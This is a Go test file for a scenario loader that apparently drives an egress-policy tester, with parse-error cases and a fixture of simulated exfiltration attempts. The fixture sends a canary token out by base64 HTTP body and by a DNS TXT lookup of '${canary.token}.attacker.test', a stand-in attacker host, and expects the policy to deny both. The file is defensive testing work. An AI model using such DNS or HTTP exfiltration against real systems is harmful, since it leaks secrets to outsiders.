package scenario_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"scupper.dev/scupper/replay/attempt"
	"scupper.dev/scupper/replay/scenario"
)

// load reads one file of scenarios with a policy beside it.
func load(t *testing.T, text string) (*scenario.Pack, error) {
	t.Helper()
	dir := t.TempDir()
	for name, content := range map[string]string{"policy.hcl": "version = 1\n", "s.hcl": text} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	known := func(host string) bool { return host == "api.example.com" || strings.HasSuffix(host, ".attacker.test") }
	return scenario.Load([]string{dir}, scenario.Options{Known: known})
}

const whole = `scenario "all" {
  describe = "everything"
  cases    = ["CRED-01"]
  for_each = { a = "one", b = "two" }
  given {
    file "notes/x.txt" { text = "token ${canary.token} ${each.value}" }
    env = { NAME = "value" }
    dns "api.example.com" { answers = [["203.0.113.7"], ["nxdomain"]] }
  }
  attempt {
    for_each = pieces("abcdef", 3)
    http {
      url     = "https://api.example.com/${item.value}%2e"
      headers = { X = ["1", "2"], Authorization = "Bearer ${env.KEY}" }
      body    = base64(canary.token)
    }
  }
  attempt {
    dns {
      name = "${canary.token}.attacker.test"
      type = "TXT"
    }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    status  = [403, 421]
    leak    = none
    arrives = []
  }
}
`

func TestLoad(t *testing.T) {
	pack, err := load(t, whole)
	if err != nil {
		t.Fatal(err)
	}
	if len(pack.Scenarios) != 2 {
		t.Fatalf("got %d scenarios, want one for each key", len(pack.Scenarios))
	}
	one, two := pack.Scenarios[0], pack.Scenarios[1]
	if one.Name != "all[a]" || two.Name != "all[b]" || one.Line != 1 {
		t.Errorf("got %q and %q at line %d", one.Name, two.Name, one.Line)
	}
	if one.Canaries[0].Value == two.Canaries[0].Value {
		t.Error("two scenarios have the same canary")
	}
	again, err := load(t, whole)
	if err != nil || again.Scenarios[0].Canaries[0] != one.Canaries[0] {
		t.Errorf("the canary changes from one reading to the next: %v", err)
	}
	if got, want := string(one.Given.Files[0].Content), "token "+one.Canaries[0].Value+" one"; got != want {
		t.Errorf("file: got %q, want %q", got, want)
	}
	if len(one.Attempts) != 3 || one.Attempts[1].HTTP.URL != "https://api.example.com/def%2e" {
		t.Fatalf("got %+v", one.Attempts)
	}
	var lines []string
	for _, h := range one.Attempts[0].HTTP.Headers {
		lines = append(lines, h.Name+"="+h.Value)
	}
	if diff := cmp.Diff([]string{"Authorization=Bearer " + attempt.Variable("KEY") + "", "X=1", "X=2"}, lines); diff != "" {
		t.Error(diff)
	}
	if !one.Attack() || !one.Expect.LeakSet || !one.Expect.ArrivesSet {
		t.Errorf("got %+v", one.Expect)
	}
}

// TestMistakes has one mistake in each scenario, and wants the line that it is in.
func TestMistakes(t *testing.T) {
	scenarioOf := func(inner string) string {
		return "scenario \"x\" {\n  describe = \"d\"\n" + inner + "\n}\n"
	}
	const expect = "\n  expect { verdict = \"deny\" }"
	const attempt = "\n  attempt {\n    http { url = \"https://api.example.com/\" }\n  }"
	for name, tc := range map[string]struct{ text, want string }{
		"syntax":                {`scenario "x" {`, "s.hcl:1,"},
		"another block":         {"grant \"x\" {\n}\n", `1,1: no block is named "grant"`},
		"attribute outside":     {"x = 1\n", `1,1: "x" stands outside`},
		"name":                  {"scenario \"X y\" {\n}\n", "1,1: a scenario has one name"},
		"twice":                 {scenarioOf(attempt+expect) + scenarioOf(attempt+expect), `a second scenario "x"`},
		"no description":        {"scenario \"x\" {" + attempt + expect + "\n}\n", `1,1: "scenario" says no describe`},
		"expects nothing":       {scenarioOf(attempt), "0 blocks expect, not 1"},
		"empty expectation":     {scenarioOf(attempt + "\n  expect {}"), "expects nothing, so that it cannot fail"},
		"attempts nothing":      {scenarioOf(expect), "attempts nothing"},
		"two in one attempt":    {scenarioOf("  attempt {\n    dns { name = \"a.test\" }\n    dns { name = \"b.test\" }\n  }" + expect), "3,3: an attempt is one thing, not 2"},
		"unknown host":          {scenarioOf("  attempt {\n    http { url = \"https://api.exmaple.com/\" }\n  }" + expect), `4,18: no stand-in and no service is named "api.exmaple.com"`},
		"unknown host, tcp":     {scenarioOf("  attempt {\n    tcp {\n      to    = \"nobody.example:25\"\n      bytes = \"x\"\n    }\n  }" + expect), `5,15: no stand-in`},
		"unknown host, arrives": {scenarioOf(attempt + "\n  expect { arrives = [\"GET https://other.example.com/\"] }"), "no stand-in"},
		"unknown host, dns":     {scenarioOf("  given {\n    dns \"x.example\" { answers = [[\"127.0.0.1\"]] }\n  }" + attempt + expect), "no stand-in"},
		"no URL":                {scenarioOf("  attempt {\n    http { url = \"api.example.com\" }\n  }" + expect), "is no URL"},
		"unknown attribute":     {scenarioOf("  attempt {\n    http {\n      url = \"https://api.example.com/\"\n      verb = \"GET\"\n    }\n  }" + expect), `6,7: "http" has no attribute "verb"`},
		"unknown reason":        {scenarioOf(attempt + "\n  expect {\n    verdict = \"deny\"\n    reason = \"bad_luck\"\n  }"), `bad_luck`},
		"unknown verdict":       {scenarioOf(attempt + "\n  expect { verdict = \"denied\" }"), "it is one of allow, deny"},
		"reason of a job":       {scenarioOf(attempt + "\n  expect {\n    verdict = \"allow\"\n    reason = \"no_grant\"\n  }"), "a reason is expected of a refusal"},
		"unknown canary":        {scenarioOf(attempt + "\n  expect { leak = [\"token\"] }"), `no canary "token"`},
		"unknown variable":      {scenarioOf("  attempt {\n    http { url = \"https://api.example.com/${secret.x}\" }\n  }" + expect), "4,45: unknown variable"},
		"type":                  {scenarioOf("  attempt {\n    dns {\n      name = \"a.test\"\n      type = \"B\"\n    }\n  }" + expect), `no record type "B"`},
		"file above":            {scenarioOf("  given {\n    file \"../x\" { text = \"\" }\n  }" + attempt + expect), "is not below its folder"},
		"mode":                  {scenarioOf("  given {\n    file \"x\" {\n      text = \"\"\n      mode = \"rwx\"\n    }\n  }" + attempt + expect), "three octal digits"},
		"base64":                {scenarioOf("  attempt {\n    http {\n      url = \"https://api.example.com/\"\n      body_base64 = \"*\"\n    }\n  }" + expect), "this is no base64"},
		"for_each":              {scenarioOf("  for_each = []" + attempt + expect), "for_each takes a map or a list"},
		"policy":                {scenarioOf("  policy = \"none.hcl\"" + attempt + expect), "3,12: there is no policy"},
		"tool and packet":       {scenarioOf(attempt + "\n  attempt {\n    tool { name = \"read\" }\n  }" + expect), "calls tools in all its attempts or in none"},
		"too much":              {scenarioOf("  attempt {\n    http { url = \"https://api.example.com/${repeat(\"x\", 99999999)}\" }\n  }" + expect), "99999999 times"},
		"no scenario":           {"service \"a\" {\n  host = \"a.example.com\"\n}\n", "no scenario in"},
	} {
		t.Run(name, func(t *testing.T) {
			pack, err := load(t, tc.text)
			if err == nil || !strings.Contains(err.Error(), tc.want) {
				t.Errorf("got %v, want %q", err, tc.want)
			}
			if pack != nil {
				t.Error("a pack with a mistake was returned")
			}
		})
	}
}

func TestServices(t *testing.T) {
	pack, err := load(t, `service "crm" {
  host = "*.crm.example.com"
  respond {
    path = "/v1/*"
    body = "yes"
  }
}
scenario "x" {
  describe = "d"
  attempt {
    http { url = "https://one.crm.example.com/v1/a" }
  }
  expect { verdict = "deny" }
}
`)
	if err != nil {
		t.Fatal(err)
	}
	if s := pack.Services[0]; s.Host != "*.crm.example.com" || s.Responses[0].Status != 200 {
		t.Errorf("got %+v", s)
	}
}
